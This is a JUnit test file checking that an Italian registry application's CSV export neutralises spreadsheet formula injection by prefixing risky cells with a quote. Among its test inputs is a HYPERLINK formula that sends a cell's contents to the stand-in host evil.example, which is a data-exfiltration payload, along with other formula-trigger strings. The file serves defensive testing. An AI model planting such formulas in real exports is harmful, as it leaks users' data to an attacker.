package it.ccse.anagrafica.shared.application.csv;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Issue 15 finding 5: the CSV downloads (AD-4, BR-1) are formula-safe. */
class SpreadsheetCsvTest {

  private static final List<String> HEADER = List.of("codice_fiscale", "ragione_sociale");

  /** The data records as a spreadsheet would split them, the byte order mark left out. */
  private static List<List<String>> read(byte[] file) throws IOException {
    String text = new String(file, StandardCharsets.UTF_8).substring(1);
    try (var parser = CSVParser.parse(text, SemicolonCsv.dialect().setTrim(false).get())) {
      return parser.getRecords().stream().skip(1).map(CSVRecord::toList).toList();
    }
  }

  private static String cellOf(String value) throws IOException {
    return read(SpreadsheetCsv.write(HEADER, List.of(List.of("12345670017", value)))).get(0).get(1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=HYPERLINK(\"https://evil.example/?d=\"&A1;\"Dettagli\")",
        "+39 011 1234567",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1"
      })
  void finding5ACellAFormulaWouldStartWithGetsALeadingQuote(String value) throws IOException {
    assertEquals("'" + value, cellOf(value));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"Demo Servizi Ambientali S.r.l.", "a=b", "Impresa \"Sole\"; S.r.l.", " =1", ""})
  void finding5OtherCellsAreWrittenAsTheyAre(String value) throws IOException {
    assertEquals(value, cellOf(value));
  }

  @Test
  void finding5TheFileKeepsItsBomHeaderAndRecords() throws IOException {
    byte[] file =
        SpreadsheetCsv.write(
            HEADER, List.of(List.of("12345670017", "Città; \"Uno\""), List.of("2", "=1")));

    assertArrayEquals(
        new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(file, 3), "UTF-8 BOM");
    assertEquals(
        "codice_fiscale;ragione_sociale\r\n12345670017;\"Città; \"\"Uno\"\"\"\r\n2;'=1\r\n",
        new String(file, StandardCharsets.UTF_8).substring(1));
    assertEquals(
        List.of(List.of("12345670017", "Città; \"Uno\""), List.of("2", "'=1")), read(file));
  }
}
